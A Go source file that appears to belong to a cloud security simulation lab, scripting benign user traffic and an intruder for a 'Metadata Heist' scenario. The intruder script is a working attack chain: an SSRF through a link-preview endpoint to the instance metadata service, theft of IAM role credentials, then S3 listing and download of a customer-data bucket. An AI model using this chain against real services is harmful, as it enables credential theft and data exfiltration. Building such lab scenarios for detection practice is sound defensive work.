package actors

import (
	"context"
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"time"

	"github.com/sakimori/sakimori/sim/labkit"

	"github.com/sakimori/sakimori/sim/aws/client"
)

// The Metadata Heist's traffic. WEB is the link-preview app's base URL,
// CLOUD the cloud endpoint.
func init() {
	labkit.RegisterScript("heist-users", heistUsers)
	labkit.RegisterScript("heist-intruder", heistIntruder)
}

// heistUsers: customers previewing links to the company's public assets.
func heistUsers(ctx context.Context, env labkit.Env) error {
	web, cloud := env("WEB"), env("CLOUD")
	hc := &http.Client{Timeout: 10 * time.Second}
	for labkit.Sleep(ctx, 20*time.Second) {
		labkit.Get(hc, web+"/", labkit.BrowserUA)
		labkit.Get(hc, web+"/fetch?url="+url.QueryEscape(cloud+"/acme-public/banner.txt"), labkit.BrowserUA)
	}
	return nil
}

// heistIntruder re-enacts the breach: the SSRF to the metadata service
// (IMDSv1, a plain GET through the proxy), then the role's key used from
// the attacker's own address to see who it is and take the data.
func heistIntruder(ctx context.Context, env labkit.Env) error {
	web, cloud := env("WEB"), env("CLOUD")
	hc := &http.Client{Timeout: 10 * time.Second}
	labkit.Intrude(ctx, labkit.Duration(env, "DELAY", 5*time.Second), 10*time.Minute, func() error {
		return heistOnce(hc, web, cloud)
	})
	return nil
}

func heistOnce(hc *http.Client, web, cloud string) error {
	const ua = "python-requests/2.31.0"
	const meta = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
	role, err := labkit.Get(hc, web+"/fetch?url="+url.QueryEscape(meta), ua)
	if err != nil {
		return err
	}
	doc, err := labkit.Get(hc, web+"/fetch?url="+url.QueryEscape(meta+strings.TrimSpace(role)), ua)
	if err != nil {
		return err
	}
	var creds client.Credentials
	if err := json.Unmarshal([]byte(doc), &creds); err != nil {
		return err
	}
	c := &client.Client{Endpoint: cloud, Creds: &creds, UserAgent: "aws-cli/2.13.5 Python/3.11.4 Linux/6.5.0-kali2-amd64 exe/x86_64.kali.2023 prompt/off command/sts.get-caller-identity"}
	if _, err := c.Query("sts", "GetCallerIdentity", nil); err != nil {
		return err
	}
	c.UserAgent = strings.Replace(c.UserAgent, "sts.get-caller-identity", "s3.ls", 1)
	if _, err := c.S3("GET", "/", nil); err != nil {
		return err
	}
	res, err := c.S3("GET", "/acme-customer-data?list-type=2", nil)
	if err != nil {
		return err
	}
	c.UserAgent = strings.Replace(c.UserAgent, "s3.ls", "s3.cp", 1)
	for _, key := range client.ListKeys(res.Body) {
		if _, err := c.S3("GET", "/acme-customer-data/"+escapePath(key), nil); err != nil {
			return err
		}
	}
	return nil
}

func escapePath(key string) string {
	parts := strings.Split(key, "/")
	for i, p := range parts {
		parts[i] = url.PathEscape(p)
	}
	return strings.Join(parts, "/")
}
